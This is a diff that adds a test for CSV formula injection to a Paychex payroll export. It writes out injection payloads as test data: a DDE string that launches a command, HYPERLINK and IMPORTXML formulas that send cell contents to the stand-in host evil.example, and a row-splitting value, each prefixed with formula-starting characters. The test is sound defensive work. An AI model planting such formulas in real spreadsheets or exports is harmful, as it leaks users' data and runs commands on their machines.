@@ -41,6 +41,27 @@ test('any names read back as one line each, and no cell is a formula (CSV inject
   )
 })
 
+/** Characters that start a formula, full-width forms too; the last ones are whitespace that spreadsheets skip. */
+const BEGINNINGS = ['=', '+', '-', '@', '＝', '＋', '－', '＠', '\t=', '\r=']
+
+test.each([
+  "cmd|'/C calc'!A0",
+  'HYPERLINK("http://evil.example/?"&A1,"pay")',
+  'SUM(1+1)*cmd|"/C calc"!A0',
+  'IMPORTXML(CONCAT("http://evil.example/",A2),"//a")',
+  '1,2\r\n=3",=4',
+])('the formula %j as a name and as a number is escaped, and reads back', (formula) => {
+  const payloads = BEGINNINGS.map((beginning) => beginning + formula)
+  const entries = payloads.map((payload, id) =>
+    shift({ id, user: { firstName: payload, lastName: 'Marrow', paychexId: payload } }),
+  )
+  const { data } = Papa.parse<string[]>(paychexCsv(entries, ZONE), { newline: '\r\n' })
+  expect(data.slice(1).map((cells) => cells.slice(4, 6))).toEqual(
+    payloads.map((payload) => [`'${payload} Marrow`, `'${payload}`]),
+  )
+  expect(data.flat().filter((cell) => /^[=+\-@＝＋－＠\p{Cc}]/u.test(cell))).toEqual([])
+})
+
 test('an open entry is not exported', () => {
   expect(paychexCsv([{ endTime: null }], ZONE).split('\r\n')).toHaveLength(1)
 })
